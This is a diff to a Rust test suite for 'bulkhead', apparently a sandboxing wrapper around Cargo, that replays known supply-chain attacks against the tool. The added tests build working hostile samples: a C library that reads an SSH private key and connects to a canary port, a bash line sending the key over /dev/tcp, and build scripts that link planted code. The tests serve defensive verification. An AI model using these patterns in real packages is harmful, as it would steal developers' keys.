@@ -152,28 +152,70 @@ fn campaign_03_look_alike_macros() {
     check_lookalike(&arena, "bit-flags", "bitflags");
 }
 
+/// A library in C that does what the payload does, as far as the mark and one listener; in a folder that is not the package's.
+fn planted_library(arena: &Arena) -> std::path::PathBuf {
+    let folder = arena.stage.project.outside().join("fetched");
+    std::fs::create_dir(&folder).unwrap();
+    let source = format!(
+        "#include <arpa/inet.h>\n#include <stdio.h>\n#include <sys/socket.h>\nvoid payload(void) {{\n  char loot[99] = \"\";\n  \
+         FILE *from = fopen(\"{}\", \"r\");\n  if (from) fgets(loot, sizeof loot, from);\n  \
+         struct sockaddr_in to = {{ .sin_family = AF_INET, .sin_port = htons({}), .sin_addr.s_addr = inet_addr(\"127.0.0.1\") }};\n  \
+         connect(socket(AF_INET, SOCK_STREAM, 0), (struct sockaddr *)&to, sizeof to);\n  \
+         FILE *mark = fopen(\"{}\", \"w\");\n  if (mark) {{ fputs(loot, mark); fclose(mark); }}\n}}\n",
+        arena.home().join(".ssh/id_ed25519").display(),
+        arena.canaries.tcp_port(),
+        arena.mark().display()
+    );
+    std::fs::write(folder.join("payload.c"), source).unwrap();
+    for (program, arguments) in
+        [("cc", &["-c", "payload.c", "-o", "payload.o"][..]), ("ar", &["rcs", "libpayload.a", "payload.o"])]
+    {
+        assert!(std::process::Command::new(program).args(arguments).current_dir(&folder).status().unwrap().success());
+    }
+    folder
+}
+
 /// rands, 2025: a look-alike that links what was fetched from somewhere.
 #[test]
 fn campaign_04_rands() {
     let arena = Arena::new("rands = \"1\"", &main_of("rands"));
-    let planted = arena.outside().join("neighbour");
+    let planted = planted_library(&arena);
     let script = format!("fn main() {{ println!(\"cargo::rustc-link-search=native={}\"); }}", planted.display());
-    arena.stage.registry.publish(package("rands", "1.0.0", OLD).build_script(&script));
-    let theirs = arena.cargo(&["build", "-v"]);
-    assert!(theirs.assert_success().stderr.contains("/neighbour"), "it bites under cargo: {theirs}");
-    arena.clear();
-    let outcome = arena.bulkhead_as_it_comes(&["build", "-v"]);
+    let library = "#[link(name = \"payload\", kind = \"static\")] unsafe extern \"C\" { fn payload(); }\n\
+                   pub fn new() { unsafe { payload() } }\n";
+    arena.stage.registry.publish(package("rands", "1.0.0", OLD).build_script(&script).file("src/lib.rs", library));
+    let bitten = |outcome: &Outcome| {
+        let loot = std::fs::read_to_string(arena.mark()).unwrap_or_default();
+        assert!(loot.contains("s3cr3t-") && arena.canaries.touched() == ["tcp"], "it has to bite: {loot:?} {outcome}");
+        arena.clear();
+    };
+    bitten(&arena.cargo(&["run"]));
+    let outcome = arena.bulkhead_as_it_comes(&["run"]);
     let parts = ["error[build-script-directive]", "rands v1.0.0", "rustc-link-search"];
     arena.assert_stopped(&outcome, 102, &parts);
     // Who approves the script has not granted what it says.
     arena.stage.project.write("bulkhead.toml", APPROVE);
     arena.bulkhead(&["approve", "--all"]).assert_success();
-    let approved = arena.bulkhead(&["build", "-v"]);
+    let approved = arena.bulkhead(&["run"]);
     arena.assert_stopped(&approved, 102, &parts);
+    // Where policy allows what scripts say, the library is in the program, and does its work where that is not confined.
     arena.stage.project.write("bulkhead.toml", ALLOW);
+    let untrusted = arena.bulkhead(&["run"]);
+    arena.assert_stopped(&untrusted, 102, &parts);
     arena.bulkhead(&["trust", "--yes", "bulkhead.toml"]).assert_success();
-    let unconfined = arena.bulkhead(&["build", "-v"]);
-    assert!(unconfined.assert_success().stderr.contains("/neighbour"), "it bites: {unconfined}");
+    let confined = arena.bulkhead(&["run", "--confined"]);
+    arena.assert_unharmed(confined.assert_success());
+    bitten(&arena.bulkhead(&["run"]));
+    // The twin: a library that the script itself has made.
+    let script = "fn main() { let out = std::env::var(\"OUT_DIR\").unwrap();\n    \
+        std::fs::write(format!(\"{out}/payload.c\"), \"void payload(void) {}\").unwrap();\n    \
+        let run = |program: &str, words: &[&str]| assert!(std::process::Command::new(program).args(words).current_dir(&out).status().unwrap().success());\n    \
+        run(\"cc\", &[\"-c\", \"payload.c\", \"-o\", \"payload.o\"]); run(\"ar\", &[\"rcs\", \"libpayload.a\", \"payload.o\"]);\n    \
+        println!(\"cargo::rustc-link-search=native={out}\"); }";
+    let twin = Arena::new("rands = \"1\"", &main_of("rands"));
+    twin.stage.registry.publish(package("rands", "1.0.0", OLD).build_script(script).file("src/lib.rs", library));
+    let outcome = twin.bulkhead_as_it_comes(&["run"]);
+    twin.assert_unharmed(outcome.assert_success());
 }
 
 /// faster_log and async_println, 2025: working copies that read keys when the program runs. Building is harmless.
@@ -358,16 +400,20 @@ fn campaign_15_shai_hulud() {
 fn campaign_16_nx() {
     use std::os::unix::fs::PermissionsExt as _;
     let arena = Arena::new("nx-tools = \"1\"", &main_of("nx-tools"));
-    let folder = arena.stage.project.outside().join("bin");
-    std::fs::create_dir(&folder).unwrap();
+    // Not below `/tmp`, of which every process has its own.
+    let place = tempfile::Builder::new().prefix("bin-").tempdir_in("/var/tmp").unwrap();
+    let folder = place.path();
     let program = folder.join("assistant");
-    std::fs::write(&program, format!("#!/bin/sh\necho \"$@\" > {}\n", arena.mark().display())).unwrap();
+    let secret = arena.home().join(".ssh/id_ed25519").display().to_string();
+    let (port, mark) = (arena.canaries.tcp_port(), arena.mark().display().to_string());
+    let text = format!("#!/bin/bash\ncat {secret} > /dev/tcp/127.0.0.1/{port}\ncat {secret} > {mark}\n");
+    std::fs::write(&program, text).unwrap();
     std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
     let script = "fn main() { assert!(std::process::Command::new(\"assistant\").arg(\"find wallets\").status().unwrap().success()) }";
     arena.stage.registry.publish(package("nx-tools", "1.0.0", OLD).build_script(script));
     let path = format!("{}:{}/bin:/usr/bin:/bin", folder.display(), bulkhead_test_support::sysroot().display());
     arena.command("cargo", &["build"]).env("PATH", &path).run().assert_success();
-    assert!(arena.mark().exists(), "it bites under cargo");
+    assert!(arena.mark().exists() && arena.canaries.touched() == ["tcp"], "it bites under cargo");
     arena.clear();
     let build = || arena.command(crate::stage::BULKHEAD, &["build"]).env("PATH", &path).run();
     let outcome = build();
@@ -376,6 +422,19 @@ fn campaign_16_nx() {
     arena.bulkhead(&["approve", "--all"]).assert_success();
     let approved = build();
     arena.assert_stopped(&approved, 105, &["the build script of `nx-tools v1.0.0`"]);
+    // Where policy allows it, the program is there, and tells what it knows; it still leaves nothing.
+    arena.stage.project.write("bulkhead.toml", ALLOW);
+    arena.bulkhead(&["trust", "--yes", "bulkhead.toml"]).assert_success();
+    let unconfined = build();
+    assert_eq!(arena.canaries.touched(), ["tcp"], "it bites: {unconfined}");
+    arena.clear();
+    arena.assert_unharmed(&unconfined);
+    // The twin: a program of the system's.
+    let twin = Arena::new("nx-tools = \"1\"", &main_of("nx-tools"));
+    let package = package("nx-tools", "1.0.0", OLD).build_script(&script.replace("assistant", "true"));
+    twin.stage.registry.publish(package);
+    let outcome = twin.bulkhead_as_it_comes(&["build"]);
+    twin.assert_unharmed(outcome.assert_success());
 }
 
 /// chalk, debug and axios, 2025 and 2026: new versions of packages that everybody uses, online for hours.
@@ -420,18 +479,28 @@ fn campaign_18_moved_tags() {
 }
 
 /// Attack 129.
-/// ultralytics, 2024: the cache of one job poisons the release that another makes.
+/// ultralytics, 2024: the cache of one job poisons the release that another makes. There is no build code to approve, and no
+/// switch by which a tree that is not what was verified were used: so what policy says makes no difference.
 #[test]
 fn campaign_19_ultralytics() {
     let arena = Arena::new("plain = \"1\"", "fn main() { println!(\"{}\", plain::say()) }");
     arena.bulkhead(&["fetch"]).assert_success();
     let stage = &arena.stage;
     let evil = format!("{}pub fn say() -> String {{ payload(); String::new() }}\n", arena.payload());
-    let poisoned = poison(&stage.home.bulkhead_home(), &evil);
-    assert!(poisoned > 0, "the source of `plain` is in the store");
-    let outcome = arena.bulkhead(&["run"]);
-    arena.assert_unharmed(&outcome);
-    assert!(outcome.assert_success().stdout.contains("plain 1.1.0"), "{outcome}");
+    for policy in [None, Some(APPROVE), Some(ALLOW)] {
+        arena.clear();
+        // Nor is it compiled units that are used instead.
+        let _ = std::fs::remove_dir_all(stage.home.bulkhead_home().join("cache"));
+        if let Some(policy) = policy {
+            stage.project.write("bulkhead.toml", policy);
+            arena.bulkhead(&["trust", "--yes", "bulkhead.toml"]).assert_success();
+        }
+        let poisoned = poison(&stage.home.bulkhead_home(), &evil);
+        assert!(poisoned > 0, "the source of `plain` is in the store");
+        let outcome = arena.bulkhead(&["run"]);
+        arena.assert_unharmed(&outcome);
+        assert!(outcome.assert_success().stdout.contains("plain 1.1.0"), "{outcome}");
+    }
     stage.cargo(&["fetch"]).assert_success();
     assert!(poison(&stage.home.cargo_home(), &evil) > 0);
     arena.clear();
@@ -472,6 +541,13 @@ fn campaign_20_boltdb() {
     assert_ne!(arena.bulkhead(&["approve", "--all"]).code(), Some(0));
     let approved = arena.bulkhead(&["build"]);
     arena.assert_stopped(&approved, 104, &["bolt", "checksum"]);
+    // No policy takes what is not what was locked: confinement is not what stops this.
+    arena.stage.project.write("bulkhead.toml", ALLOW);
+    arena.bulkhead(&["trust", "--yes", "bulkhead.toml"]).assert_success();
+    let allowed = arena.bulkhead(&["build"]);
+    arena.assert_stopped(&allowed, 104, &["bolt", "checksum"]);
+    arena.bulkhead(&["trust", "--revoke", "bulkhead.toml"]).assert_success();
+    std::fs::remove_file(arena.stage.project.path("bulkhead.toml")).unwrap();
     // Who has never seen the first one gets a script that is confined.
     check_approved_and_unconfined(&arena, &["the build script of `bolt v1.0.0`", "was denied"]);
     arena.assert_bitten(&arena.cargo(&["build"]));
